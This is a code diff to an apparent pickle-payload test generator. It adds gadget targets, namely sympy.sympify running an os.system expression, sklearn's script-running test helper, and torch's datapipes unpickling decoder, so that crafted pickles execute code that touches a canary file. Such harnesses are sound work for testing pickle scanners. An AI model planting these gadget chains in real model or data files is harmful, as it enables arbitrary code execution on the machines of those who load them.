@@ -40,7 +40,7 @@ class Target:
     name: str
     args: ArgsFor
     requires: tuple[str, ...] = ()
-    bytes_args: bool = False  # the first argument is bytes (pushed via _codecs.encode)
+    bytes_at: int = -1  # this argument is bytes (pushed via _codecs.encode, any protocol)
 
 
 def _inner_p0(canary: Path) -> str:
@@ -84,7 +84,25 @@ TARGETS: dict[str, Target] = {
         "numpy", "memmap", lambda f, c: (str(c), "uint8", "w+", 0, (1,)), ("numpy",)
     ),
     "torch.save": Target("torch", "save", lambda f, c: (0, str(c)), ("torch",)),
-    "pickle.loads": Target("pickle", "loads", lambda f, c: (_inner_p0(c),), bytes_args=True),
+    "pickle.loads": Target("pickle", "loads", lambda f, c: (_inner_p0(c),), bytes_at=0),
+    # Ordinary third-party functions that run what they are given: an expression
+    # evaluator, a test helper that runs a script, a data-pipe decoder that unpickles.
+    "sympy.sympify": Target(
+        "sympy", "sympify", lambda f, c: (f"__import__('os').system({sh_touch(c)!r})",), ("sympy",)
+    ),
+    "sklearn.run_script": Target(
+        "sklearn.utils._testing",
+        "assert_run_python_script_without_output",
+        lambda f, c: (py_touch(c),),
+        ("sklearn",),
+    ),
+    "datapipes.basichandlers": Target(
+        "torch.utils.data.datapipes.utils.decoder",
+        "basichandlers",
+        lambda f, c: ("pickle", _inner_p0(c)),
+        ("torch",),
+        bytes_at=1,
+    ),
     "numpy.load": Target("numpy", "load", _nested_file(".npy", _npy_header()), ("numpy",)),
     "joblib.load": Target("joblib", "load", _nested_file(".pkl"), ("joblib",)),
 }
@@ -169,8 +187,8 @@ def _get(a: PickleAsm, i: int) -> None:
 def _push_items(a: PickleAsm, t: Target, args: tuple[Const, ...]) -> None:
     """The arguments as separate stack items (bytes built by _codecs.encode, any protocol)."""
     for i, value in enumerate(args):
-        if i == 0 and t.bytes_args:
-            a.global_("_codecs", "encode").args(value, "latin1").reduce()
+        if i == t.bytes_at:
+            a.global_("_codecs", "encode").args(value, "latin1").reduce()  # bytes in any protocol
         else:
             a.push(value)
 
